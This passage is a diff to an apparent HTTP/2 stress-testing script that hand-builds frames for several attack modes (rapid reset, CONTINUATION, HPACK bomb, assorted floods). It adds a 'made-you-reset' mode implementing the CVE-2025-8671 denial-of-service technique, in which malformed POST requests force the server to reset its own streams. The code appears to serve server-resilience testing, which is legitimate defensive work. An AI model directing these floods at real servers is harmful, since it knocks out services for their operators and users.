@@ -12,7 +12,7 @@ No third-party packages: frames are built by hand (RFC 9113 4.1: 3-byte length, 
    the end of the run), "sent": attack units sent, "rst_received", "streams": {id: {...}}}
 
 Modes (see --help): rapid-reset, continuation, hpack-bomb, ping-flood, settings-flood,
-window-update-flood, zero-window, hang-up (requests then the write side closed at once, on
+window-update-flood, zero-window, made-you-reset (requests the server is made to reset), hang-up (requests then the write side closed at once, on
 --count connections), requests (a well-behaved client: SETTINGS acknowledged, a
 WINDOW_UPDATE for the stream and the connection per DATA frame received).
 """
@@ -339,7 +339,7 @@ def flood(c, count, unit, deadline):
 def main():
     p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     p.add_argument("mode", choices=["rapid-reset", "continuation", "hpack-bomb", "ping-flood", "settings-flood",
-                                    "window-update-flood", "zero-window", "requests", "hang-up"])
+                                    "window-update-flood", "zero-window", "requests", "hang-up", "made-you-reset"])
     p.add_argument("--host", default="127.0.0.1")
     p.add_argument("--port", type=int, required=True)
     p.add_argument("--authority", default="h2.test")
@@ -360,6 +360,17 @@ def main():
         c = start(args)
         sent = flood(c, args.count, lambda i: frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * i, block)
                      + frame(RST_STREAM, 0, 1 + 2 * i, struct.pack(">I", CANCEL)), deadline)
+        c.wait_closed(max(0.0, deadline - time.monotonic()))
+        out = c.result(args.mode, sent)
+    elif args.mode == "made-you-reset":
+        # CVE-2025-8671: the client never sends RST_STREAM; each request is followed by a frame
+        # that makes the server reset the stream itself, after its exchange started: HEADERS
+        # announcing content-length 2, then one byte of DATA with END_STREAM (a stream error,
+        # PROTOCOL_ERROR, for nghttp2's HTTP messaging rules).
+        c = start(args)
+        announced = request_block((args.path or ["/"])[0], args.authority, method="POST", extra=[("content-length", "2")])
+        sent = flood(c, args.count, lambda i: frame(HEADERS, END_HEADERS, 1 + 2 * i, announced)
+                     + frame(DATA, END_STREAM, 1 + 2 * i, b"x"), deadline)
         c.wait_closed(max(0.0, deadline - time.monotonic()))
         out = c.result(args.mode, sent)
     elif args.mode == "continuation":
